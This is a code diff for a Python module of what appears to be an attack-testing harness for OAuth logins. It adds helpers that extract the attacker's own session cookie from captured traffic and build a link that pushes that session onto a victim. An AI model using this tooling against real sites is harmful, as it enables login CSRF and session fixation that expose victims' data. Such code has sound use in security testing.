@@ -5,10 +5,10 @@ the attacker's session shows the victim's data. Or the other way round (section 
 own code is meant for the victim's session.
 """
 
-from typing import Any, Protocol
-from urllib.parse import urlencode
+from typing import Any, NamedTuple, Protocol
+from urllib.parse import urlencode, urlsplit
 
-from attacker.loot import LootBag, LootItem
+from attacker.loot import LootBag, LootItem, NothingCapturedError
 from attacker.vantage import Leg
 
 
@@ -26,6 +26,15 @@ class Browser(Protocol):
     async def sign_in_as(self, url: str, username: str, password: str) -> Any:
         """Go to an address, and sign in with this account, all the way."""
         ...
+
+
+class Cookie(NamedTuple):
+    """A cookie, and the URL of the server that it is for."""
+
+    url: str
+    name: str
+    value: str
+    path: str
 
 
 class Injector:
@@ -60,6 +69,21 @@ class Injector:
     def own_answer(self) -> str:
         """The redirect that ended :meth:`sign_in`, for whoever shall open it."""
         return self.answer_with(self._loot.need("code", Leg.OWN), self._loot.find("state", Leg.OWN))
+
+    def own_cookie(self, url: str) -> Cookie:
+        """What tells the attacker's own session at the server of a URL from those of others.
+
+        Raises :class:`attacker.loot.NothingCapturedError`.
+        """
+        host = urlsplit(url).netloc
+        for seen in reversed(self._loot.sightings):
+            if "session" in seen.parameters and urlsplit(seen.text).netloc == host:
+                return Cookie(url, *(seen.parameters[key] for key in ("name", "session", "path")))
+        raise NothingCapturedError(f"{host} has given the attacker no cookie")
+
+    def link_for_own_session(self) -> str:
+        """A link that starts a login at the client, and names the attacker's session."""
+        return f"{self.client}?{urlencode({'for': self.own_cookie(self.client).value})}"
 
     def own_request(self, **changes: str | None) -> str:
         """The authorization request of the newest own login, for somebody else to follow.
